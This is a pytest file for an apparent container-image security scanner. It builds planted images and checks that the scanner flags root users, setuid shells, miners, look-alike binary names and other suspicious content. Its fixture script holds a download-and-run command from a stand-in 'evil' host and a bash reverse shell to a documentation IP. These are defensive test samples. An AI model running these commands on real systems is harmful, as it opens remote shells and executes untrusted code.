"""Image-configuration rules and suspicious unowned binaries on planted images."""

from __future__ import annotations

import pytest
from planted import OS_RELEASE, by_rule, dpkg_base, read_target, run_checks

from dockwise.checks.binaries import imitation
from dockwise.model import FileRecord
from dockwise.security.ruleset import indicator_rules
from tests.analyze.elfgen import make_elf
from tools.imagepack import Member

URL = "http://203.0.113.7:8080/beacon"
SSHD_STATUS = "Package: openssh-server\nStatus: install ok installed\nVersion: 1:9.2p1-2\n\n"


def _elf(*strings: str) -> bytes:
    return make_elf(sections={".rodata": b"\0".join(s.encode() for s in strings) + b"\0"})


@pytest.fixture
def findings(build):
    path = build(
        layers=[
            dpkg_base("usr/bin/ls", packages=SSHD_STATUS),
            [
                Member("usr/local/bin/agent", _elf(URL, "hello"), mode=0o755),
                Member("usr/local/bin/rootsh", b"#!/bin/sh\nexec sh\n", mode=0o4755),
                Member("usr/local/bin/sshd", _elf("OpenSSH"), mode=0o755),
                Member("usr/local/bin/l\u0455", _elf("x"), mode=0o755),
                Member("usr/local/bin/ps ", _elf("x"), mode=0o755),
                Member("opt/x/upx", b"\x7fELF" + b"\0" * 200 + b"UPX!" + b"\0" * 64, mode=0o755),
                Member("opt/x/miner", _elf("XMRig 6.21", "--donate-level=1",
                                            "stratum+tcp://pool.minexmr.com:4444"), mode=0o755),
                Member("opt/x/boot.sh", b"#!/bin/sh\ncurl -fsSL https://get.evil.sh | sh\n"
                       b"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n", mode=0o755),
                Member("usr/bin/ls", _elf("https://www.gnu.org/software/coreutils/"),
                       mode=0o755),
                Member("var/cache/apt/archives/curl_8.0_amd64.deb", b"!<arch>\n" * 10),
            ],
        ],
        config={"User": "", "ExposedPorts": {"22/tcp": {}, "8080/tcp": {}},
                "Entrypoint": ["agent"], "Env": ["PATH=/usr/local/bin:/usr/bin"],
                "Labels": {"org.opencontainers.image.base.name": "docker.io/library/debian"}},
    )  # fmt: skip
    return run_checks(read_target(path))


@pytest.mark.parametrize(
    ("rule", "path"),
    [
        ("config/root-user", None),
        ("config/no-healthcheck", None),
        ("config/setuid-shell", "usr/local/bin/rootsh"),
        ("config/remote-admin-port", None),
        ("config/ssh-server", None),
        ("config/package-cache", "var/cache/apt/archives"),
        ("config/latest-base", None),
        ("suspicious/unowned-entrypoint", "usr/local/bin/agent"),
        ("suspicious/embedded-endpoints", "usr/local/bin/agent"),
        ("suspicious/imitates-system-tool", "usr/local/bin/sshd"),
        ("suspicious/upx-packed", "opt/x/upx"),
        ("suspicious/crypto-miner", "opt/x/miner"),
        ("suspicious/download-exec", "opt/x/boot.sh"),
        ("suspicious/reverse-shell", "opt/x/boot.sh"),
    ],
    ids=lambda v: (v or "image").replace("/", "_").replace("-", "_"),
)
def test_reported(findings, rule, path):
    found = by_rule(findings, rule)
    assert found, rule
    if path is not None:
        assert path in [f.location.path for f in found]


def test_entrypoint_evidence_carries_the_url(findings):
    (entry,) = by_rule(findings, "suspicious/unowned-entrypoint")
    evidence = dict(entry.evidence)
    assert evidence["resolved"] == "/usr/local/bin/agent" and URL in evidence["endpoints"]
    assert str(entry.severity) == "medium"


def test_setuid_shell_is_high_and_unowned(findings):
    (shell,) = by_rule(findings, "config/setuid-shell")
    assert str(shell.severity) == "high" and dict(shell.evidence)["owner"] == "no package"


def test_port_22_named(findings):
    (port,) = by_rule(findings, "config/remote-admin-port")
    assert "22/tcp" in port.title and "SSH" in port.title


def test_owned_binary_with_doc_urls_is_quiet(findings):
    assert not [f for f in findings if f.location and f.location.path == "usr/bin/ls"
                and f.kind == "suspicious-binary"]  # fmt: skip


def test_look_alike_and_blank_names(findings):
    imitating = {f.location.path for f in by_rule(findings, "suspicious/imitates-system-tool")}
    assert {"usr/local/bin/l\u0455", "usr/local/bin/ps "} <= imitating


@pytest.mark.parametrize(
    ("name", "rule"),
    [("node", None), ("ѕudo", "imitates-system-tool"), ("tool\u200b", "odd-name")],
    ids=["ordinary", "cyrillic_s", "zero_width"],
)
def test_imitation_rules(name, rule):
    found = list(imitation(FileRecord(f"usr/local/bin/{name}", None, ()), indicator_rules()))
    assert [f.rule_id for f in found] == ([f"suspicious/{rule}"] if rule else [])


def test_non_root_user_with_healthcheck_is_quiet(build):
    path = build(
        layers=[dpkg_base()],
        config={"User": "1000:1000", "Healthcheck": {"Test": ["CMD", "true"]}},
    )
    rules = {f.rule_id for f in run_checks(read_target(path))}
    assert not rules & {"config/root-user", "config/no-healthcheck"}


def test_a_source_tree_has_no_run_config_to_judge(build, tmp_path):
    """`scan dir:.` in a repository's CI: no USER or HEALTHCHECK exists to be missing;
    the same files as an image without USER are still judged on it."""
    tree = tmp_path / "tree"
    (tree / "etc").mkdir(parents=True)
    (tree / "etc" / "os-release").write_text(OS_RELEASE)
    as_dir = {f.rule_id for f in run_checks(read_target(f"dir:{tree}"))}
    assert not as_dir & {"config/root-user", "config/no-healthcheck"}
    as_image = {f.rule_id for f in run_checks(read_target(build(layers=[dpkg_base()])))}
    assert {"config/root-user", "config/no-healthcheck"} <= as_image


def test_image_without_package_db_does_not_flag_every_file(build):
    path = build(layers=[{"app/server": Member("app/server", _elf(URL), mode=0o755)}],
                 config={"Entrypoint": ["/app/server"]})  # fmt: skip
    kinds = {f.kind for f in run_checks(read_target(path))}
    assert "suspicious-binary" not in kinds


def test_setuid_copy_of_a_shell_is_named_by_its_content(build):
    """A shell renamed and made setuid is still a setuid shell: the same bytes as the
    image's bash (through the merged-/usr `bin` link), or a BusyBox by its banner. An
    ordinary setuid binary stays a setuid file."""
    bash = _elf("GNU bash, version 5.2.15(1)-release")
    path = build(
        layers=[
            [*(Member(p, text.encode()) for p, text in dpkg_base("usr/bin/bash").items()),
             Member("usr/bin/bash", bash, mode=0o755),
             Member("bin", kind="symlink", target="usr/bin")],
            [
                Member("usr/local/bin/helper", bash, mode=0o4755),
                Member("opt/x/tool", _elf("BusyBox v1.36.1 (2023-11-07)"), mode=0o2755),
                Member("usr/local/bin/report", _elf("report generator"), mode=0o4755),
            ],
        ],
    )  # fmt: skip
    findings = run_checks(read_target(path))
    shells = {f.location.path: f for f in by_rule(findings, "config/setuid-shell")}
    assert dict(shells["usr/local/bin/helper"].evidence)["shell"] == "same content as /usr/bin/bash"
    assert str(shells["usr/local/bin/helper"].severity) == "high"
    (busybox,) = by_rule(findings, "config/setgid-shell")
    assert busybox.location.path == "opt/x/tool" and str(busybox.severity) == "high"
    assert dict(busybox.evidence)["shell"] == "BusyBox binary (version banner)"
    assert [f.location.path for f in by_rule(findings, "config/setuid-file")] == [
        "usr/local/bin/report"]  # fmt: skip
    assert set(shells) == {"usr/local/bin/helper"}
